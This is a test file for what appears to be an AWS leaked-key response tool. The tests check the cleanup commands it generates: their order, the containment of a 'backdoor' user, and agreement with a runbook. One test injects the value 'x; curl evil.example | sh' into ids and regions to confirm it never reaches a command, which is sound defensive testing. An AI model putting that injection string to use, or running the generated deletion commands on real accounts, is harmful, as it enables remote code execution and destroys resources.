import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { isCommand } from "../../../../common/command";
import { type Left, removableKinds, removalsOf } from "../../../../operations/respond/sweep/removal";
import { removalText } from "../../../../operations/respond/sweep/words";
import { root } from "../../../support/graph";
import { left, oneOfEach as all, region } from "../../../support/left-things";

const contained = () => ["baseline-respond-deny"];

describe("what is left after a sweep", () => {
  it("has a command for each kind of thing", () => {
    assert.deepEqual(new Set(all.map(({ kind }) => kind)), new Set(removableKinds));
    for (const { what, commands } of removalsOf(all, contained)) {
      assert.ok(commands.length > 0 && commands.every(isCommand), `${what}: ${commands.join("; ")}`);
    }
  });

  it("begins with containing identities, and then removes in an order that works", () => {
    const command = "npm run respond -- user/backdoor contain";
    const removals = removalsOf(all, (who) => (who === "user/backdoor" ? command : ["baseline-respond-deny"]));
    assert.deepEqual(removals[0]?.commands, [command]);
    const operations = removals.flatMap(({ commands }) => commands).map((each) => each.split(" ")[2]);
    assert.ok(!operations.includes("delete-user"), "who is not contained is not deleted yet");
    const at = (operation: string) => operations.lastIndexOf(operation);
    assert.ok(at("terminate-instances") < at("revoke-security-group-ingress"));
    assert.ok(at("revoke-security-group-ingress") < at("delete-security-group"));
    assert.ok(at("detach-role-policy") < at("delete-policy"));
    assert.ok(at("delete-role-policy") < at("delete-role"));
  });

  it("deletes a contained user after all that hangs on it, the containment last", () => {
    const { commands = [] } = removalsOf(all, contained).find(({ what }) => what.startsWith("user backdoor")) ?? {};
    assert.deepEqual(commands, [
      "aws iam delete-user-policy --user-name backdoor --policy-name baseline-respond-deny",
      "aws iam delete-user --user-name backdoor",
    ]);
  });

  it("ends the instances of a region with one command, and first what would launch others", () => {
    const commands = removalsOf(all, contained).flatMap(({ commands }) => commands);
    assert.deepEqual(commands.slice(0, 3), [
      `aws ec2 terminate-instances --region ${region} --instance-ids i-1 i-2`,
      `aws autoscaling suspend-processes --region ${region} --auto-scaling-group-name asg`,
      `aws ec2 terminate-instances --region ${region} --instance-ids i-3`,
    ]);
  });

  it("runs nothing of a stranger's", () => {
    const evil = "x; curl evil.example | sh";
    for (const { commands } of removalsOf(
      all.map((each) => ({ ...each, id: evil, region: evil })),
      contained,
    )) {
      assert.ok(
        commands.every((each) => !/curl/.test(each.replace(/'[^']*'/g, ""))),
        commands.join("\n"),
      );
    }
  });

  it("is told in lines that a shell takes as they stand, with a warning where the owner's own work is among it", () => {
    const lines = (isAll: boolean) => removalText(removalsOf(all, contained), isAll).join("\n");
    assert.match(lines(true), /Look first/);
    assert.doesNotMatch(lines(false), /Look first/);
    assert.doesNotMatch(lines(true), /snapshots/);
    const early = removalText(removalsOf(all, contained), false, true).join(" ");
    assert.match(
      early,
      /Make the calls above first, with --apply: they keep the disks as snapshots\..*terminate-instances/,
    );
    assert.match(lines(false), /open port sg-1, eu-west-1\n +aws ec2 revoke-security-group-ingress/);
    assert.deepEqual(removalText([], true), []);
  });

  it("stands in the runbook, kind by kind", () => {
    const page = readFileSync(join(root, "docs", "runbooks", "leaked-key.md"), "utf8");
    const of = (kind: Left["kind"]) => (kind === "permissions" ? "user/<user>" : "<user>");
    const general = removableKinds.map((kind) => ({
      ...left(kind, `<${nameIn[kind] ?? kind}>`, { region: "<region>", of: of(kind) }),
    }));
    for (const { commands } of removalsOf(general, () => [])) {
      for (const command of commands) {
        assert.ok(page.includes(command.replaceAll("'", "")), command);
      }
    }
  });
});

const nameIn: Partial<Record<Left["kind"], string>> = {
  "access key": "key id",
  "console password": "user",
  "trust of role": "role",
  policy: "policy ARN",
  permissions: "policy name",
  "shared snapshot": "snapshot",
  "shared image": "image",
  "open port": "security group",
};
